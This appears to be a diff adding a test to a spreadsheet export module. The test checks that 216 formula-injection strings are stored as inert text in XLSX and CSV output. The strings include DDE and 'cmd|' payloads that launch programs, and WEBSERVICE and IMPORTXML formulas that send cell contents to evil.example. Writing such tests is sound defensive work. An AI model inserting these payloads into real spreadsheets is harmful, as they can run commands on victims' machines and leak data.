@@ -11,6 +11,7 @@ import pytest
 from csvw import CSVW
 from hypothesis import given
 from hypothesis import strategies as st
+from python_calamine import CalamineWorkbook
 
 from pactwatch.register.extract import extracting
 from pactwatch.register.store import Register
@@ -161,6 +162,44 @@ def test_the_same_register_gives_the_same_workbook(export: Export) -> None:
 
 def _row(number: int, **values: Any) -> dict[str, Any]:
     return dict.fromkeys(NAMES) | {"claim": f"claim {number}"} | values
+
+
+HARMS = [
+    f"{before}{sign}{formula}"
+    for before in ("", " ", "\u200b", "\ufeff")
+    for sign in "=+-@＝\t"
+    for formula in (
+        "1+1",
+        "cmd|' /C calc'!A0",
+        'HYPERLINK("http://evil.example","x")',
+        "SUM(A1:A9)",
+        'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
+        'WEBSERVICE("http://evil.example/"&A1)',
+        'DDE("cmd","/C calc","")',
+        "rundll32|'URL.dll,OpenURL calc.exe'!A",
+        "2+5+cmd|'/C calc'!A0",
+    )
+]
+
+
+def test_two_spreadsheet_programs_find_no_formula_among_216(tmp_path: Path) -> None:
+    """Each is the text that a report had, in XLSX to the letter and in CSV behind an apostrophe."""
+    rows = [_row(number, quote=harm) for number, harm in enumerate(HARMS)]
+    path = tmp_path / "harm.xlsx"
+    with path.open("wb") as file:
+        export_xlsx(iter(rows), file, COLOPHON)
+    (tmp_path / "harm.csv").write_bytes(b"".join(csv_lines(rows)))
+    column = NAMES.index("quote")
+
+    one = openpyxl.load_workbook(path)["Claims"]
+    other = CalamineWorkbook.from_path(path).get_sheet_by_name("Claims").to_python()
+
+    assert len(HARMS) == 216
+    cells = [row[column] for row in one.iter_rows(min_row=2)]
+    assert [str(cell.value) for cell in cells] == HARMS
+    assert "f" not in {cell.data_type for cell in cells}
+    assert [row[column] for row in other[1:]] == HARMS
+    assert [row["quote"] for row in rows_of(tmp_path / "harm.csv")] == [f"'{harm}" for harm in HARMS]
 
 
 def test_what_no_sheet_holds_goes_on_the_next(tmp_path: Path) -> None:
